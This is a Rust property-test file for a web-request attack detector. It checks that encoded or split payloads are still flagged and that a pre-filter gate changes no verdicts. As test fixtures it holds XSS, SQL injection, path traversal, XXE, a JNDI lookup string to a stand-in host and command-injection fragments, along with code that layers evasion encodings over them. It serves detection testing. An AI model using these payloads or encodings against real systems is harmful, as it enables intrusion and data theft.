//! Requests composed at random from pieces of attacks and the encodings that hide them: whatever comes, no
//! panic; the gate changes nothing; and no layer that a program would undo hides an attack.
//!
//! Bytes without any meaning are tried beside the packs (`pattern/load.rs`); here the pieces have one.

use std::sync::OnceLock;

use aftertrace::category::Category;
use aftertrace::event::Access;
use aftertrace::pattern::inspector::Inspector;
use aftertrace::pattern::load;
use aftertrace::pattern::set::PatternSet;
use aftertrace::severity::Confidence;
use proptest::prelude::*;

use crate::properties::telling::request;

fn set() -> &'static PatternSet {
    static SET: OnceLock<PatternSet> = OnceLock::new();
    SET.get_or_init(|| load::embedded().unwrap())
}

/// A way to write text that some program undoes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Layer {
    Percent,
    EveryPercent,
    Unicode,
    Entities,
    Hexadecimal,
    FullWidth,
    Base64,
    UrlBase64,
    Utf7,
    Json,
}

/// Escapes of single characters, which a text may mix.
const ESCAPES: [Layer; 5] = [
    Layer::Unicode,
    Layer::Entities,
    Layer::Hexadecimal,
    Layer::Percent,
    Layer::EveryPercent,
];

/// What wraps a whole value.
const WRAPPINGS: [Layer; 4] = [Layer::Base64, Layer::UrlBase64, Layer::Utf7, Layer::Json];

impl Layer {
    fn apply(self, text: &str) -> String {
        let each = |write: &dyn Fn(char) -> String| -> String { text.chars().map(write).collect() };
        let plain = |c: char| c.is_ascii_alphanumeric();
        let bytes = |c: char| c.to_string().into_bytes();
        let percent = |c: char| -> String {
            let coded = bytes(c).into_iter().map(|byte| format!("%{byte:02X}"));
            coded.collect()
        };
        match self {
            Layer::Percent => each(&|c| if plain(c) { c.into() } else { percent(c) }),
            Layer::EveryPercent => each(&percent),
            Layer::Unicode => each(&|c| match plain(c) {
                true => c.into(),
                false => format!("%u{:04x}", c as u32),
            }),
            Layer::Entities => each(&|c| match c {
                '<' => "&lt;".into(),
                '>' => "&#62;".into(),
                '"' => "&#x22;".into(),
                _ => c.into(),
            }),
            Layer::Hexadecimal => each(&|c| match c.is_ascii_punctuation() {
                true => format!("\\x{:02x}", c as u32),
                false => c.into(),
            }),
            Layer::FullWidth => each(&|c| match u32::from(c) {
                code @ 0x21..=0x7e => char::from_u32(code + 0xfee0).unwrap().into(),
                _ => c.into(),
            }),
            Layer::Base64 => base64(text.as_bytes(), b"+/", true),
            Layer::UrlBase64 => base64(text.as_bytes(), b"-_", false),
            Layer::Utf7 => each(&|c| match plain(c) || c == ' ' {
                true => c.into(),
                false => format!("+{}-", base64(&[0, c as u8], b"+/", false)),
            }),
            Layer::Json => format!(
                "{{\"page\":1,\"text\":{}}}",
                serde_json::to_string(text).unwrap()
            ),
        }
    }
}

/// Base64 with these two last signs (RFC 4648).
fn base64(bytes: &[u8], last: &[u8; 2], padded: bool) -> String {
    let mut signs: Vec<u8> = (b'A'..=b'Z')
        .chain(b'a'..=b'z')
        .chain(b'0'..=b'9')
        .collect();
    signs.extend_from_slice(last);
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let bits = group
            .iter()
            .fold(0u32, |bits, byte| bits << 8 | u32::from(*byte));
        let bits = bits << (8 * (3 - group.len()));
        for at in 0..=group.len() {
            text.push(signs[(bits >> (18 - 6 * at)) as usize & 63] as char);
        }
        if padded {
            text.push_str(&"=".repeat(3 - group.len()));
        }
    }
    text
}

/// Attacks that are found when nothing hides them, and what they are.
const ATTACKS: [(&str, Category); 6] = [
    ("<script>alert(1)</script>", Category::Xss),
    ("<img src=x onerror=alert(1)>", Category::Xss),
    ("\"><svg onload=alert(1)>", Category::Xss),
    (
        "1' union select login,password from users-- -",
        Category::SqlInjection,
    ),
    ("../../../../etc/passwd", Category::PathTraversal),
    (
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>",
        Category::XmlInjection,
    ),
];

/// The categories that are found in `/page?text=VALUE`, where at least one match is surely an attack.
fn found(value: &str) -> Vec<Category> {
    let target = format!("/page?lang=en&text={value}");
    let mut inspector = Inspector::new(set());
    let verdict = inspector.inspect(&request(target.as_bytes(), b"-", b""));
    verdict
        .filter(|verdict| verdict.confidence >= Confidence::Medium)
        .map(|verdict| verdict.categories.clone())
        .unwrap_or_default()
}

fn layer(of: &'static [Layer]) -> impl Strategy<Value = Layer> {
    prop::sample::select(of)
}

/// A piece of a request in some encoding.
fn piece() -> impl Strategy<Value = String> {
    let all: Vec<Layer> = ESCAPES
        .into_iter()
        .chain(WRAPPINGS)
        .chain([Layer::FullWidth])
        .collect();
    (
        prop::sample::select(PIECES),
        prop::collection::vec(prop::sample::select(all), 0..3),
    )
        .prop_map(|(text, layers)| {
            layers.into_iter().fold(text.to_owned(), |text, layer| {
                if text.is_ascii() || layer != Layer::Utf7 {
                    layer.apply(&text)
                } else {
                    text
                }
            })
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// One escape, one wrapping, and up to two rounds of percent-encoding hide nothing.
    #[test]
    fn no_layer_hides_an_attack(
        attack in prop::sample::select(&ATTACKS[..]),
        escape in prop::option::of(layer(&ESCAPES)),
        wrapping in prop::option::of(layer(&WRAPPINGS)),
        twice in any::<bool>(),
    ) {
        let (text, category) = attack;
        // UTF-7 is read where it hides signs, and entities would leave it none
        let escape = escape.filter(|_| wrapping != Some(Layer::Utf7));
        let mut value = text.to_owned();
        for layer in escape.into_iter().chain(wrapping) {
            value = layer.apply(&value);
        }
        // three rounds are undone; the first two of these take two by themselves
        let quoted = (escape, wrapping) == (Some(Layer::Hexadecimal), Some(Layer::Json));
        let spent = quoted || matches!(escape, Some(Layer::Percent | Layer::EveryPercent));
        let rounds = if twice && !spent { 2 } else { 1 };
        for _ in 0..rounds {
            value = Layer::Percent.apply(&value);
        }
        prop_assert!(found(&value).contains(&category), "{text} as {escape:?}, {wrapping:?}: {value}");
    }

    #[test]
    fn the_gate_changes_nothing(
        parts in prop::collection::vec(piece(), 1..6),
        place in 0..5usize,
    ) {
        let text = parts.concat();
        let quoted = format!("\"-\" \"{}\" 0.003", text.replace('"', "\\\""));
        let target = match place {
            0 => format!("/{text}"),
            1 => format!("/a;{text}/b?c=1"),
            2 => format!("/s?a={text}&a=1&b={text}"),
            3 => format!("/s?{text}"),
            _ => "/".to_owned(),
        };
        let access = request(target.as_bytes(), text.as_bytes(), quoted.as_bytes());
        let mut gated = Inspector::new(set());
        let mut bare = Inspector::without_gate(set());
        prop_assert_eq!(gated.inspect(&access), bare.inspect(&access), "{}", &text);
        // and once more, from memory
        prop_assert_eq!(gated.inspect(&access), bare.inspect(&access), "{}", &text);
        let malformed = Access { method: b"", request: text.as_bytes(), ..access };
        prop_assert_eq!(gated.inspect(&malformed), bare.inspect(&malformed), "{}", &text);
    }
}

/// Pieces of which requests are made, harmless and not.
const PIECES: &[&str] = &[
    "a",
    "1",
    "shoes",
    "select",
    "union all select 1,2",
    "' or '1'='1",
    "/*",
    "*/",
    "--",
    ";",
    "; b=2",
    ";x=",
    "&",
    "&a=",
    "&id=",
    "=",
    "?",
    "/",
    "../",
    "..;/",
    "etc/passwd",
    "\u{0}",
    ".php",
    "<",
    ">",
    "\"",
    "'",
    "<script>",
    "alert(1)",
    "onload=",
    "<b>",
    "</b>",
    "<!--",
    "-->",
    "<svg",
    "javascript:",
    "data:text/plain;base64,",
    "{",
    "}",
    "{\"a\":\"",
    "\"}",
    "[",
    "]",
    "${jndi:ldap://x.example/a}",
    "$(id)",
    "|",
    "`",
    "cat /etc/hosts",
    "+",
    "+ADw-",
    "%",
    "%2",
    "%u",
    "&#",
    "&lt",
    "\\",
    "\\x",
    "\\u{",
    "\\74",
    "\u{e9}",
    "\u{ff1c}",
    "\u{200b}",
    "\r\n",
    "http://x.example/?q=",
    "10.0.0.1",
    "Mozilla/5.0 (X11)",
];

#[test]
fn fields_behind_the_user_agent_are_judged() {
    let mut inspector = Inspector::new(set());
    let mut verdict = |extras: &str| {
        let access = request(b"/", b"-", extras.as_bytes());
        inspector
            .inspect(&access)
            .map(|verdict| (verdict.category, verdict.matches[0].field.name()))
    };
    let attack = "\"203.0.113.7, 1' or sleep(5)-- -\"";
    assert_eq!(verdict(attack), Some((Category::SqlInjection, "extra")));
    assert_eq!(
        verdict("0.004 \"-\" \"<script>alert(1)</script>\""),
        Some((Category::Xss, "extra"))
    );
    for harmless in [
        "\"203.0.113.7, 198.51.100.4\"",
        "\"-\" \"shop.example\" 0.003 0.002 .",
        "0.1 -",
        "\"sqlmap\"",
        "\"unterminated",
    ] {
        assert_eq!(verdict(harmless), None, "{harmless}");
    }
}

#[test]
fn values_that_a_program_joins_are_judged_joined() {
    for (target, category) in [
        (
            "/p?id=1/**/union/*&id=*/select/*&id=*/login,password/*&id=*/from/*&id=*/users",
            Category::SqlInjection,
        ),
        ("/p?id=1+union/*&x=*/select+1,2,3", Category::SqlInjection),
        (
            "/p;lang=../../../etc/passwd/x?id=1",
            Category::PathTraversal,
        ),
        ("/p?a=1;b=%3Cscript%3Ealert(1)", Category::Xss),
        ("/p?f=/etc/passwd%00.html", Category::PathTraversal),
    ] {
        let mut inspector = Inspector::new(set());
        let verdict = inspector.inspect(&request(target.as_bytes(), b"-", b""));
        let verdict = verdict.unwrap_or_else(|| panic!("{target}"));
        assert!(
            verdict.categories.contains(&category),
            "{target}: {verdict:?}"
        );
    }
    for target in [
        "/s?fq=color:red&fq=size:4&fq=price:[1+TO+9]",
        "/s?id[]=1&id[]=2&id[]=3",
        "/s;jsessionid=0123456789abcdef?tag=union&tag=select",
        "/s?data={\"name\":\"<b>x</b>\",\"size\":\"5'10\"}",
    ] {
        let mut inspector = Inspector::new(set());
        let verdict = inspector.inspect(&request(target.as_bytes(), b"-", b""));
        let sure = verdict.filter(|verdict| verdict.confidence >= Confidence::Medium);
        assert_eq!(sure, None, "{target}");
    }
}
